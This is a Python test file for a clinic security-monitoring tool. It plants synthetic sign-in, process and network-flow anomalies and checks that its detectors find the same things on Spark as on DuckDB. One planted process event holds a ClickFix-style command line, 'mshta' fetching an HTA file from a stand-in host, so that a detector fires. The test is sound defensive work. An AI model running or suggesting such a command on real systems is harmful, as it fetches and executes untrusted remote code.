"""Every detector finds the same things on a real local Spark session as on DuckDB.

A chain runs detection on Spark over the same hive-partitioned Parquet store a clinic's
box reads with DuckDB. This test plants one anomaly per detector in a small store, runs the
whole pass on both engines and compares the findings field by field. One Spark session
serves the module (starting a JVM takes seconds).
"""

import importlib.util
import logging
import shutil
from dataclasses import asdict
from datetime import timedelta
from typing import Any

import pytest

from clinicshield.monitoring.core.detectors import DetectionContext
from clinicshield.monitoring.core.detectors.events import event_table
from clinicshield.monitoring.core.detectors.failures import (
    detect_brute_force,
    detect_password_spray,
)
from clinicshield.monitoring.core.detectors.registry import DETECTORS, run_detectors
from clinicshield.monitoring.core.engines import connect
from clinicshield.monitoring.core.sigma_rules import load_rules
from clinicshield.monitoring.queries.detection import _spark_connection, detection_connection
from tests.system import need

from .conftest import ORG, at, daily, signin, write_events
from .test_failure_windows import random_failures

# The window holds the night Madrid moves its clocks forward (2025-03-30, 01:00 UTC), so
# local-time arithmetic takes its multi-offset path on both engines.
START = at("2025-03-30 00:00")
END = START + timedelta(days=1)
MADRID = {"src_country": "ES", "src_city": "Madrid", "src_lat": 40.42, "src_lon": -3.70}
LAGOS = {"src_country": "NG", "src_city": "Lagos", "src_lat": 6.52, "src_lon": 3.38}
HOME_NET = {"src_ip": "83.40.1.1", "src_asn": 3352, "src_asn_org": "Telefonica"}


@pytest.fixture(scope="module")
def spark() -> Any:
    need(shutil.which("java") is not None, "Java is not installed (openjdk-17-jre-headless)")
    need(importlib.util.find_spec("pyspark") is not None, "pyspark is not installed")
    con = connect("spark")
    yield con
    con._session.stop()
    _spark_connection.cache_clear()  # the settings test cached a connection to this session
    # py4j says goodbye at interpreter exit, after pytest has closed the captured streams.
    logging.getLogger("py4j").setLevel(logging.WARNING)


def failure(ts, user, src_ip):
    return signin(ts, user, outcome="failure", src_ip=src_ip, logon_type="network")


def planted_auth() -> list[dict[str, Any]]:
    history_start = START - timedelta(days=31)
    rows = []
    for user in ("ana", "bob"):
        rows += [
            signin(ts, user, device=f"WS-{user.upper()}", **MADRID, **HOME_NET)
            for ts in daily(history_start, 31, 8, 30)
        ]
    rows += [
        # off_hours: ana on Sunday 04:12 Madrid time, after the clocks moved.
        signin(at("2025-03-30 02:12"), "ana", device="WS-ANA", **MADRID, **HOME_NET),
        # new_country, new_asn, new_device, impossible_travel: bob from Lagos 40 minutes
        # after Madrid, on a network and a machine never seen.
        signin(at("2025-03-30 09:00"), "bob", device="WS-BOB", **MADRID, **HOME_NET),
        signin(
            at("2025-03-30 09:40"),
            "bob",
            device="LAPTOP-X",
            src_ip="41.1.1.1",
            src_asn=37148,
            src_asn_org="Globacom",
            **LAGOS,
        ),
        # service_account_interactive
        signin(at("2025-03-30 21:00"), "svc_backup", logon_type="remote_interactive"),
    ]
    # brute_force: twelve failures on carol in four minutes.
    rows += [
        failure(at("2025-03-30 10:00") + timedelta(seconds=20 * n), "carol", "203.0.113.7")
        for n in range(12)
    ]
    # password_spray then spray_success from one source.
    rows += [
        failure(at("2025-03-30 03:00") + timedelta(minutes=2 * n), f"user{n}", "198.51.100.9")
        for n in range(12)
    ]
    rows.append(signin(at("2025-03-30 05:00"), "user3", src_ip="198.51.100.9"))
    return rows


@pytest.fixture(scope="module")
def planted_store(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("store")
    write_events(data_dir, "auth", planted_auth())
    process = {
        "ts": at("2025-03-30 09:00"),
        "host": "pc1",
        "user": "ana",
        "event_code": "sysmon:1",
        "image": "C:\\Windows\\System32\\mshta.exe",
        "parent_image": "C:\\Windows\\explorer.exe",
        "command_line": "mshta https://x.example/verify.hta",
        "record_ref": "p1",
    }
    write_events(data_dir, "process", [process])
    flows = [
        {
            "ts": at("2025-03-30 01:00") - timedelta(days=n),
            "src_ip": "10.0.0.9",
            "dst_ip": "45.9.2.2",
            "bytes_out": 400 * 1024**2,
            "record_ref": f"f{n}",
        }
        for n in range(10)
    ]
    # The host's usual traffic before: exfiltration judges a host once it has a past.
    flows += [
        {
            "ts": at("2025-03-30 02:00") - timedelta(days=n),
            "src_ip": "10.0.0.9",
            "dst_ip": "52.95.1.1",
            "bytes_out": 1024**2,
            "record_ref": f"u{n}",
        }
        for n in range(10, 60)
    ]
    write_events(data_dir, "flow", flows)
    return data_dir


def context() -> DetectionContext:
    return DetectionContext(
        start=START,
        end=END,
        timezone="Europe/Madrid",
        # A person whose site keeps another zone: the per-user zone join runs too.
        user_timezones={"carol": "Atlantic/Canary"},
        service_accounts=frozenset({"svc_backup"}),
        sigma_rules=tuple(load_rules([]).rules),
    )


def comparable(findings) -> list[dict[str, Any]]:
    return sorted((asdict(f) for f in findings), key=lambda f: (f["kind"], f["key"]))


def test_it_finds_exactly_the_same_on_spark_as_on_duckdb(planted_store, spark):
    kept_before = set(spark.list_tables())
    on_duckdb = run_detectors(connect("duckdb"), planted_store, ORG, context())
    on_spark = run_detectors(spark, planted_store, ORG, context())

    kinds = {f.kind for f in on_duckdb}
    # Every detector found its planted anomaly ("process_rules" raises "clickfix").
    assert kinds >= (set(DETECTORS) - {"process_rules"}) | {"clickfix"}
    summary = [(f["kind"], f["key"], f["user"], f["count"]) for f in comparable(on_spark)]
    assert summary == [(f["kind"], f["key"], f["user"], f["count"]) for f in comparable(on_duckdb)]
    # Severities, UTC times, explanations and evidence too.
    assert comparable(on_spark) == comparable(on_duckdb)
    # A chain's session outlives a pass: the baselines it cached are released, not kept.
    # (Ibis drops its own in-memory tables when they are garbage collected.)
    left = set(spark.list_tables()) - kept_before
    assert {name for name in left if not name.startswith(("cs_events_", "ibis_pandas"))} == set()
    assert sorted(name[: len("cs_events_") + 4] for name in left if "events" in name) == [
        "cs_events_auth",
        "cs_events_flow",
        "cs_events_proc",
    ]


def test_the_sliding_windows_count_the_same_failures_on_spark(tmp_path, spark):
    # Range frames and the running count of accounts behind brute force and spray, on
    # random failures that meet each of their rules (one seed holds every kind).
    write_events(tmp_path, "auth", random_failures(2))
    ctx = DetectionContext(start=at("2025-02-03 00:00"), end=at("2025-02-06 00:00"))
    codes = set()
    for detect in (detect_brute_force, detect_password_spray):
        on_duckdb, on_spark = (
            comparable(detect(con, event_table(con, tmp_path, ORG, "auth"), ctx))
            for con in (connect("duckdb"), spark)
        )
        assert on_spark == on_duckdb
        codes |= {f["code"] for f in on_spark}
    assert codes == {"password_spray", "brute_force.user", "brute_force.source"}


def test_the_detection_setting_picks_the_spark_engine_and_keeps_its_session(settings, spark):
    settings.DETECTION_ENGINE = "spark"
    first, second = detection_connection(), detection_connection()
    assert first.name == "pyspark"
    assert first is second
    # The session the process already runs is reused, not a second JVM.
    assert first._session is spark._session
    assert first._session.conf.get("spark.sql.session.timeZone") == "UTC"
    settings.DETECTION_ENGINE = "duckdb"
    assert detection_connection().name == "duckdb"


def test_an_unknown_engine_is_refused_with_the_choices():
    with pytest.raises(ValueError, match="unknown detection engine 'sparks': expected one of"):
        connect("sparks")
